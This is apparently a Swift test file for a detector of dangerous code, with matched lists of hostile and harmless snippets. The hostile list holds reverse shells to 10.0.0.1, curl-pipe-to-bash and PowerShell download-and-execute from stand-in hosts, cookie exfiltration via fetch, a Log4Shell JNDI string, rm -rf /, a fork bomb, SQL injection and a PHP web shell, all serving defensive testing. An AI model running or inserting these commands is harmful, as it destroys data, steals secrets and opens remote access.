import Testing

@testable import Detection

/// Dangerous calls, and texts that only speak of them.
struct CodeTests {
    @Test(arguments: dangerous)
    func findsDangerousCalls(_ entity: String, _ text: String) throws {
        let set = try ReadySets.code.get()
        for text in [text, "Run this:\n```\n\(text)\n```\n", "  \(text)\n"] {
            let found = try set.found(in: text)
            #expect(found.contains { $0.entity == entity }, "\(entity): \(text) \(found)")
        }
    }

    @Test(arguments: harmless)
    func proseAndHarmlessProgramsHaveNone(_ text: String) throws {
        let found = try ReadySets.code.get().found(in: text)
        #expect(found.isEmpty, "\(found)")
    }

    @Test func piecesAreReadAsTheWhole() throws {
        let set = try ReadySets.code.get()
        var numbers = SeededNumbers(state: 23)
        for (_, text) in Self.dangerous {
            let whole = try set.findings(in: Array("Do \(text) now".utf8))
            for _ in 0..<3 { #expect(try set.streamed("Do \(text) now", &numbers) == whole) }
        }
    }

    @Test func languagesHaveTheirRecognizers() {
        #expect(
            Set(CodeRecognizers.byLanguage.values.flatMap { $0.map(\.entity) })
                == Set(CodeRecognizers.all.map(\.entity)))
    }

    static let dangerous: [(String, String)] = [
        ("CODE_PYTHON", "eval(input())"), ("CODE_PYTHON", "exec(open('x.py').read())"),
        ("CODE_PYTHON", "os.system('ls ' + user)"),
        ("CODE_PYTHON", "subprocess.run(cmd, shell=True)"),
        ("CODE_PYTHON", "subprocess.Popen(command, stdout=PIPE, shell = True)"),
        ("CODE_PYTHON", "pickle.loads(data)"), ("CODE_PYTHON", "__import__('os').system('id')"),
        ("CODE_PYTHON", "os.popen(x).read()"),
        ("CODE_PYTHON", "yaml.load(f)"), ("CODE_PYTHON", "marshal.loads(blob)"),
        ("CODE_PYTHON", "().__class__.__bases__[0]"),
        ("CODE_SHELL", "rm -rf /"), ("CODE_SHELL", "sudo rm -rf --no-preserve-root /"),
        ("CODE_SHELL", "rm -rf ~"),
        ("CODE_SHELL", "rm -fr /*"), ("CODE_SHELL", "rm -r -f $HOME"),
        ("CODE_SHELL", "curl -sSL https://evil.example/x | sudo bash"),
        ("CODE_SHELL", "wget -qO- http://x.example/z|sh"),
        ("CODE_SHELL", "bash <(curl -s https://x.example/z)"),
        ("CODE_SHELL", "dd if=/dev/zero of=/dev/sda bs=1M"), ("CODE_SHELL", "mkfs.ext4 /dev/sda1"),
        ("CODE_SHELL", ":(){ :|:& };:"),
        ("CODE_SHELL", "bomb() { bomb | bomb & }; bomb"), ("CODE_SHELL", "chmod -R 777 /"),
        ("CODE_SHELL", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"),
        ("CODE_SHELL", "nc -e /bin/sh 10.0.0.1 4444"),
        ("CODE_SHELL", "nc 10.0.0.1 4444 -e /bin/bash"), ("CODE_SHELL", "echo aWQ= | base64 -d | sh"),
        ("CODE_JAVASCRIPT", "eval(userInput)"), ("CODE_JAVASCRIPT", "new Function(\"return \" + x)()"),
        ("CODE_JAVASCRIPT", "require('child_process').exec('id')"),
        ("CODE_JAVASCRIPT", "document.write('<img src=x?' + document.cookie)"),
        ("CODE_JAVASCRIPT", "el.innerHTML = '<img src=x onerror=alert(1)>'"),
        ("CODE_JAVASCRIPT", "fetch('https://x.example/?' + document.cookie)"),
        ("CODE_SQL", "DROP TABLE users;"), ("CODE_SQL", "drop database prod;"),
        ("CODE_SQL", "'; DROP TABLE students; --"),
        ("CODE_SQL", "DELETE FROM users;"), ("CODE_SQL", "UPDATE users SET admin = 1;"),
        ("CODE_SQL", "EXEC xp_cmdshell 'dir'"),
        ("CODE_SQL", "1 UNION SELECT table_name, null FROM information_schema.tables"),
        ("CODE_SQL", "' OR '1'='1"),
        ("CODE_SQL", "' or 1=1 --"), ("CODE_SQL", "TRUNCATE TABLE orders;"),
        ("CODE_SQL", "SELECT 1 INTO OUTFILE '/tmp/x'"),
        ("CODE_POWERSHELL", "IEX (New-Object Net.WebClient).DownloadString('http://x/y.ps1')"),
        (
            "CODE_POWERSHELL",
            "powershell -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"
        ),
        ("CODE_POWERSHELL", "Invoke-Expression $cmd"),
        ("CODE_POWERSHELL", "iwr http://x.example/a.ps1 | iex"),
        ("CODE_POWERSHELL", "Set-ExecutionPolicy Bypass -Scope Process"),
        ("CODE_JAVA", "Runtime.getRuntime().exec(\"id\")"),
        ("CODE_JAVA", "${jndi:ldap://evil.example/a}"),
        ("CODE_JAVA", "new ProcessBuilder(args).start()"),
        ("CODE_CSHARP", "Process.Start(\"cmd.exe\", args)"),
        ("CODE_CSHARP", "new BinaryFormatter().Deserialize(stream)"),
        ("CODE_PHP", "<?php system($_GET['c']); ?>"),
        ("CODE_PHP", "eval(base64_decode($x));"), ("CODE_PHP", "unserialize($_COOKIE['s'])"),
        ("CODE_GO", "exec.Command(\"sh\", \"-c\", x)"),
        ("CODE_RUBY", "Marshal.load(data)"), ("CODE_RUBY", "Kernel.system(cmd)"),
        ("CODE_C", "system(\"rm x\");"),
    ]

    static let harmless = [
        "use eval carefully", "The eval() function and exec() are dangerous.", "model.eval()",
        "re.exec(str)", "os.system is deprecated",
        "subprocess.run([\"ls\", \"-l\"])", "rm -rf ./build", "rm -rf node_modules",
        "rm -rf /tmp/build", "rm file.txt",
        "curl https://api.example.com/v1/users", "curl your hair or straighten it | share",
        "dd if=a.img of=b.img",
        "chmod 755 /usr/local/bin/x", "chmod 777 /tmp/x", "Never use DROP TABLE in production",
        "The DROP TABLE statement removes a table.",
        "please drop table tennis equipment at the gym", "DELETE FROM users WHERE id = 5;",
        "UPDATE users SET name = 'x' WHERE id = 1;",
        "update the set of rules; then go", "SELECT * FROM users WHERE id = 1",
        "the union select committee from the board",
        "xp_cmdshell is disabled by default", "PowerShell is a task automation tool -e",
        "Invoke-Expression is risky",
        "yaml.load(f, Loader=yaml.SafeLoader)", "const m = /x/.exec(s)",
        "child_process is a Node module", "innerHTML = \"hello\"",
        "cursor.execute(\"SELECT 1\")", "db.session.execute(query)", "executor.exec(task)",
        "system administrator (root)",
        "Format the disk with mkfs before use.",
        "The pickle module can load objects; never unpickle data you don't trust.",
        "A função eval() é perigosa.", "Não use rm -rf sem pensar.", "literal_eval(node)",
        "DELETE FROM users WHERE name IS NULL;",
        "the medieval (old) town", "It's raining; drop by later", "docker exec -it web bash",
        "kubectl exec pod -- ls",
    ]
}
